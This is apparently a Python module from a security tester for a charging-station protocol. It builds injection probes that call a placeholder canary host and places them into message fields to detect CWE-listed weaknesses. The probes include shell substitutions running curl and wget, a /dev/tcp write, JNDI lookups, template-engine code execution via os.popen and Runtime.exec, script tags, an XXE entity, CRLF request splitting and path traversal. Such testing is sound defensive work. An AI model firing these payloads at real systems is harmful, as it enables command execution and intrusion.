"""Texts that prove an injection: each makes whatever runs, expands or renders it call our catcher.

Knows the tongues of shells, templates and markup, and where a message takes free text. The address to call is a slot:
must not know who listens there, nor how a message is played. Nothing here changes or deletes anything.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

from strategies.examples import example, example_with
from strategies.labels import Channel, JsonObject, Mutation
from strategies.pool import Pool
from strategies.schema import AnyNode, MessageSchema, Path, Place, StringNode, places, pointer_of

KEYWORD = "injection"
"""The keyword of every mutation made here; the operator is the canary's `Tongue`."""

HIT = "{canary.hit}"
SHORT = "{canary.address}/{canary.token}"
LAWFUL = "{canary.url}"

_WIDTHS = {
    "{canary.hit}": 40,
    "{canary.url}": 40,
    "{canary.address}": 21,
    "{canary.host}": 15,
    "{canary.port}": 5,
    "{canary.token}": 6,
}
"""How long a slot becomes at most, for an IPv4 address."""

_LONGEST = 1_000
"""Where no schema bounds a text, the certificate for 2.0.1 counts on no more."""


class Tongue(StrEnum):
    """Who would have to understand a canary for it to sing."""

    SHELL = "shell"
    LOOKUP = "lookup"
    TEMPLATE = "template"
    MARKUP = "markup"
    ENTITY = "entity"
    ADDRESS = "address"
    REQUEST = "request"
    SQL = "sql"
    FILE = "file"
    FORMAT = "format"
    NUL = "nul"
    TERMINAL = "terminal"


@dataclass(frozen=True, slots=True)
class Weakness:
    """What a canary's song proves: the words for it, and its number in the CWE list."""

    words: str
    cwe: str


WEAKNESSES = {
    Tongue.SHELL: Weakness("is run by a shell", "CWE-78"),
    Tongue.LOOKUP: Weakness("is expanded as a lookup (JNDI)", "CWE-917"),
    Tongue.TEMPLATE: Weakness("is evaluated as a template or an expression", "CWE-1336"),
    Tongue.MARKUP: Weakness("is rendered as markup", "CWE-79"),
    Tongue.ENTITY: Weakness("is parsed as XML with external entities", "CWE-611"),
    Tongue.ADDRESS: Weakness("is fetched, though it is no place for an address", "CWE-918"),
    Tongue.REQUEST: Weakness("splits the request that is made of it", "CWE-93"),
}
"""The tongues that can be proven; of the others a crash, a leak or an echo tells."""


@dataclass(frozen=True, slots=True)
class Canary:
    """One text: `where` stands for the address to call.

    `follows` is true for what goes behind an address where one is asked for. Texts without `where` call nobody.
    """

    name: str
    tongue: Tongue
    text: str

    def calls(self, where: str) -> str:
        """The text with an address to call."""
        return self.text.replace("WHERE", where)


_ANYWHERE = (
    Canary("substitution", Tongue.SHELL, "$(curl WHERE)"),
    Canary("lookup", Tongue.LOOKUP, "${jndi:ldap://{canary.address}/{canary.token}}"),
    Canary("terminal", Tongue.TERMINAL, "\x1b[2J\x1b[31mlab\x1b[0m\x07"),
    Canary("image", Tongue.MARKUP, "<img src=//{canary.address}/{canary.token}>"),
    Canary("format", Tongue.FORMAT, "%n%s%x%n%s%p%99999d%n"),
    Canary("quote", Tongue.SQL, "lab'\")--"),
    Canary("semicolon", Tongue.SHELL, ";curl WHERE;"),
    Canary("script", Tongue.MARKUP, "\"'><script src=//{canary.address}/{canary.token}></script>"),
    Canary("nul", Tongue.NUL, "lab\x00;lab"),
    Canary("quotes", Tongue.SHELL, "';curl WHERE;'"),
    Canary("double-quotes", Tongue.SHELL, '";curl WHERE;"'),
    Canary(
        "popen",
        Tongue.TEMPLATE,
        "{{cycler.__init__.__globals__.os.popen('curl WHERE').read()}}",
    ),
    Canary("runtime", Tongue.TEMPLATE, "${T(java.lang.Runtime).getRuntime().exec('curl WHERE')}"),
    Canary(
        "entity",
        Tongue.ENTITY,
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{canary.hit}">]><a>&b;</a>',
    ),
    Canary("wget", Tongue.SHELL, "$(wget -qO- WHERE)"),
    Canary("backticks", Tongue.SHELL, "`curl WHERE`"),
    Canary("line", Tongue.SHELL, "lab\ncurl WHERE\n"),
    Canary("pipe", Tongue.SHELL, "lab|curl WHERE"),
    Canary("background", Tongue.SHELL, "lab&curl WHERE&"),
    Canary(
        "socket",
        Tongue.SHELL,
        "$(echo {canary.token}>/dev/tcp/{canary.host}/{canary.port})",
    ),
)

_IN_TEXT = (
    Canary("address", Tongue.ADDRESS, HIT),
    Canary("traversal", Tongue.FILE, "../../../../../../etc/hostname"),
)

_IN_ADDRESS = (
    # A header, and a second request, in an address that is copied into a request as it is.
    Canary(
        "line-break",
        Tongue.REQUEST,
        " HTTP/1.1\r\nHost: {canary.address}\r\n\r\nGET /hit/{canary.token} HTTP/1.1\r\nX-Lab: ",
    ),
    Canary("above", Tongue.FILE, "/../../../../lab"),
)

_READ_HERE = Canary("file", Tongue.FILE, "file:///etc/hostname")
"""Only where something is read from the address: written to, it would do harm."""

_ADDRESSES = frozenset({"remoteLocation", "location", "ocppCsmsUrl", "responderURL", "server"})
_ELSEWHERE = frozenset({"customData", "groupIdToken"})
"""Read by nobody, or read as the token beside it."""

_READ_FROM = frozenset({"UpdateFirmware", "PublishFirmware"})


def is_address(name: str) -> bool:
    """True for a member or variable whose value is an address, so that calling it is lawful."""
    lower = name.lower()
    return name in _ADDRESSES or any(word in lower for word in ("url", "uri", "server", "address"))


@dataclass(frozen=True, slots=True)
class Injection:
    """A valid payload with one canary in one place; `control` has a harmless value there, `place` is for ids."""

    place: str
    canary: Canary
    payload: JsonObject
    control: JsonObject
    mutation: Mutation


def injections(schema: MessageSchema) -> Iterator[tuple[int, Injection]]:
    """Every canary in every place of a message that takes it, each with its rank: those of one rank go together."""
    for place in _free(schema):
        name = str(place.path[-1] if isinstance(place.path[-1], str) else place.path[-2])
        room = getattr(place.node, "max_length", None) or _LONGEST
        for rank, canary, text in _fitting(name, schema.action, room):
            yield rank, _injection(schema, place.path, canary, text)


def value_injections(pool: Pool) -> Iterator[tuple[int, Injection]]:
    """SetVariables with canaries as the values of the target's own variables that hold text."""
    for known in pool.variables:
        if known.data_type != "string" or known.mutability == "ReadOnly" or known.values:
            continue
        room = int(known.max_limit) if known.max_limit else _LONGEST
        for rank, canary, text in _fitting(known.variable, "SetVariables", room):
            item: JsonObject = {
                "component": known.component_json(),
                "variable": known.variable_json(),
            }
            yield (
                rank,
                Injection(
                    known.name,
                    canary,
                    {"setVariableData": [{**item, "attributeValue": text}]},
                    {"setVariableData": [{**item, "attributeValue": known.value or "lab"}]},
                    _mutation("/setVariableData/0/attributeValue", canary, text),
                ),
            )


def _injection(schema: MessageSchema, path: Path, canary: Canary, text: str) -> Injection:
    pointer = pointer_of(path)
    return Injection(
        pointer.strip("/").replace("/", "."),
        canary,
        example_with(schema, path, text),
        example(schema, pointer),
        _mutation(pointer, canary, text),
    )


def _mutation(pointer: str, canary: Canary, text: str) -> Mutation:
    return Mutation(Channel.PAYLOAD, pointer, KEYWORD, canary.tongue.value, after=text)


def _free(schema: MessageSchema) -> Iterator[Place]:
    """The places of free text, each type of text once: what reads one token, or one name, reads all of them."""
    seen: set[str] = set()
    for place in places(schema):
        node = place.node
        if _ELSEWHERE.intersection(map(str, place.path)) or not isinstance(
            node, StringNode | AnyNode
        ):
            continue
        if isinstance(node, StringNode) and (node.enum or node.date_time):
            continue
        if node.field not in seen:
            seen.add(node.field)
            yield place


def _fitting(name: str, action: str, room: int) -> Iterator[tuple[int, Canary, str]]:
    """The canaries for one place, as they are written there."""
    address = is_address(name)
    for rank, canary in enumerate(_ANYWHERE):
        text = _written(canary, room, LAWFUL if address else "")
        if text:
            yield rank, canary, text
    for rank, canary in enumerate(_IN_ADDRESS if address else _IN_TEXT):
        text = _written(canary, room, LAWFUL if address else "")
        if text:
            yield 2 + 3 * rank, canary, text
    if address and action in _READ_FROM:
        yield 4, _READ_HERE, _READ_HERE.text


def _written(canary: Canary, room: int, before: str) -> str:
    """The canary with the plainest address that there is room for; "" when there is room for none."""
    for where in (HIT, SHORT):
        text = before + canary.calls(where)
        if width(text) <= room:
            return text
    return ""


def width(text: str) -> int:
    """How long a text becomes at most when its slots are filled."""
    for slot, length in _WIDTHS.items():
        text = text.replace(slot, "x" * length)
    return len(text)
